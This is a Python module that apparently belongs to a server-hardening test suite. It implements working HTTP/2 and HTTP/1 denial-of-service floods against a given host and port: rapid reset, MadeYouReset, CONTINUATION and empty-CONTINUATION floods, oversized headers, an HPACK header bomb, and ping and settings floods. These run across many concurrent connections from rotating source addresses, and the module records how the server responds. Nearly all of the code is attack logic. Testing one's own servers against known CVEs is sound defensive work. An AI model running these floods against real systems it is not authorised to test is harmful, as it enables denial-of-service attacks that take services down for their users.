"""Floods on single connections: each a known way to make a server work or
remember more than its client does. All are bounded in bytes and in time."""

import socket
import struct
import threading
import time
from collections import Counter

import frames
import slow
from frames import CONTINUATION, END_HEADERS, END_STREAM, FRAME_MAX, HEADERS, RST_STREAM, frame

SECONDS_MAX = 10
STREAMS = 10_000


class Connection:
    """Sends, and notes what the server says to it."""

    def __init__(self, host, port, number):
        source = slow.SOURCES[number % len(slow.SOURCES)]
        self.authority = f"{host}:{port}"
        self.deadline = time.monotonic() + SECONDS_MAX
        self.socket = socket.create_connection((host, port), 5, (source, 0))
        self.socket.settimeout(SECONDS_MAX / 2)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.seen, self.ended = Counter(), None
        self.buffer, self.raw = bytearray(), bytearray()
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        """False once there is no sense in going on."""
        if self.ended or time.monotonic() > self.deadline:
            return False
        try:
            self.socket.sendall(data)
            return True
        except TimeoutError:
            self.ended = self.ended or "stalled"
        except OSError:
            self.ended = self.ended or "closed"
        return False

    def finish(self, wait_s=2.0):
        """Gives the server some time to answer."""
        self.reader.join(min(wait_s, max(0.1, self.deadline - time.monotonic())))
        ended = self.ended or "open"
        try:
            self.socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.socket.close()
        self.reader.join(1)
        return ended, self.seen

    def _read(self):
        try:
            while data := self.socket.recv(65_536):
                self._note(data)
            self.ended = self.ended or "closed"
        except TimeoutError:
            pass
        except OSError:
            self.ended = self.ended or "closed"

    def _note(self, data):
        if self.raw or data.startswith(b"HTTP/1") and not self.buffer:
            self.raw += data
            first = bytes(self.raw[:12])
            if len(first) == 12 and not self.seen:
                self.seen[f"status {first[9:12].decode(errors='replace')}"] += 1
            return
        self.buffer += data
        for kind, _, _, payload in frames.parse(self.buffer):
            if kind == HEADERS and (status := frames.status(payload)):
                self.seen[f"status {status}"] += 1
            elif kind == RST_STREAM:
                self.seen["reset"] += 1
            elif kind == frames.GOAWAY:
                self.ended = self.ended or "goaway"
                self.seen[f"goaway {struct.unpack('>I', payload[4:8])[0]}"] += 1


def _streams(connection, of_each, streams=STREAMS):
    """`of_each(stream)` gives what is sent on a stream; 50 go at once."""
    connection.send(frames.hello())
    for first in range(0, streams, 50):
        ids = range(2 * first + 1, 2 * (first + 50), 2)
        if not connection.send(b"".join(of_each(stream) for stream in ids)):
            return


def _get(connection, stream, flags=END_HEADERS | END_STREAM, more=b""):
    block = frames.request(connection.authority, "/") + more
    return frame(HEADERS, flags, stream, block)


def rapid_reset(connection):
    """Opens streams and cancels each at once (CVE-2023-44487)."""
    cancel = struct.pack(">I", frames.CANCEL)
    _streams(connection, lambda s: _get(connection, s) + frame(RST_STREAM, 0, s, cancel))


def made_you_reset(connection):
    """Has the server cancel each stream, by a window past its largest size (CVE-2025-8671)."""
    largest = struct.pack(">I", (1 << 31) - 1)
    _streams(
        connection,
        lambda s: _get(connection, s) + frame(frames.WINDOW_UPDATE, 0, s, largest),
    )


def continuation_flood(connection):
    """A header block that never ends (CVE-2024-27316): 32 MB of it."""
    connection.send(frames.hello() + _get(connection, 1, flags=END_STREAM))
    piece = frames.literal("x-flood", "a" * (FRAME_MAX - 16))
    for _ in range(2_000):
        if not connection.send(frame(CONTINUATION, 0, 1, piece)):
            return


def empty_continuation_flood(connection):
    """The same without a byte in it, so that no limit of bytes is reached."""
    connection.send(frames.hello() + _get(connection, 1, flags=END_STREAM))
    for _ in range(1_000):
        if not connection.send(frame(CONTINUATION, 0, 1) * 100):
            return


def header_flood(connection):
    """Requests with 256 kB of headers each."""
    fields = b"".join(frames.literal(f"x-{i}", "a" * 200) for i in range(70))
    def request(stream):
        middle = frame(CONTINUATION, 0, stream, fields) * 18
        last = frame(CONTINUATION, END_HEADERS, stream)
        return _get(connection, stream, flags=END_STREAM) + middle + last

    _streams(connection, request, streams=100)


def header_bomb(connection):
    """4 kB in the server's table, named thousands of times by one byte each."""
    bomb = frames.literal("x-bomb", "a" * 3_900, first=0x40)
    _streams(
        connection,
        lambda s: _get(connection, s, more=(bomb if s == 1 else b"") + frames.indexed(62) * 10_000),
        streams=100,
    )


def ping_flood(connection):
    """Each must be answered; the answers are not read quickly."""
    connection.send(frames.hello())
    for _ in range(1_000):
        if not connection.send(frame(frames.PING, 0, 0, bytes(8)) * 100):
            return


def settings_flood(connection):
    connection.send(frames.hello())
    for _ in range(1_000):
        if not connection.send(frame(frames.SETTINGS, 0, 0) * 100):
            return


def http1_header_flood(connection):
    """One request with headers without end."""
    connection.send(f"GET / HTTP/1.1\r\nhost: {connection.authority}\r\n".encode())
    for i in range(20_000):
        if not connection.send(f"x-{i}: {'a' * 1_000}\r\n".encode()):
            return


# Those that go on for ever must be ended by the server.
FLOODS = {
    rapid_reset: False,
    made_you_reset: False,
    continuation_flood: True,
    empty_continuation_flood: True,
    header_flood: False,
    header_bomb: False,
    ping_flood: False,
    settings_flood: False,
    http1_header_flood: True,
}


def run(flood, host, port, connections):
    """The flood on several connections at the same time."""
    ends, seen, lock = Counter(), Counter(), threading.Lock()

    def work(number):
        try:
            connection = Connection(host, port, number)
        except OSError as error:
            with lock:
                ends[f"not connected: {type(error).__name__}"] += 1
            return
        flood(connection)
        end, notes = connection.finish()
        with lock:
            ends[end] += 1
            seen.update(notes)

    began = time.monotonic()
    threads = [threading.Thread(target=work, args=(number,)) for number in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    took_s = round(time.monotonic() - began, 2)
    return {"ends": dict(ends), "answers": dict(seen), "seconds": took_s}
